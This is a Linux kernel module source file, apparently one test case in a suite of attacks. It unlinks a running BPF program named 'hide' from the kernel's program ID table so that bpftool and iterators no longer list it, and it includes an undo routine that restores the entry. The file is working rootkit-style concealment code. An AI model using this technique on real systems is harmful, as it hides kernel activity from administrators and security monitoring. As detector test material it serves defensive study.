// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * The BPF program of the subject bpf_hides is taken off the kernel's table of program ids: neither
 * bpftool nor an iterator shows it any more, and it runs on.
 */
#include "attack.h"

#include <linux/bpf.h>
#include <linux/idr.h>

static struct idr *programs;
static spinlock_t *lock;
static struct bpf_prog *hidden;
static int number;

static int attack(void)
{
	struct bpf_prog *program;
	int id;

	programs = (struct idr *)symbol("prog_idr");
	lock = (spinlock_t *)symbol("prog_idr_lock");
	if (!programs || !lock)
		return -ENOENT;
	spin_lock_bh(lock);
	idr_for_each_entry(programs, program, id)
	{
		if (!strcmp(program->aux->name, "hide")) {
			hidden = program;
			number = id;
		}
	}
	if (hidden)
		idr_remove(programs, number);
	spin_unlock_bh(lock);
	return hidden ? 0 : -ENOENT;
}

static void undo(void)
{
	idr_preload(GFP_KERNEL);
	spin_lock_bh(lock);
	if (idr_alloc(programs, hidden, number, number + 1, GFP_ATOMIC) != number)
		pr_err("attack: program %d is not back\n", number);
	spin_unlock_bh(lock);
	idr_preload_end();
}

ATTACK("BPF program taken off the table of ids");
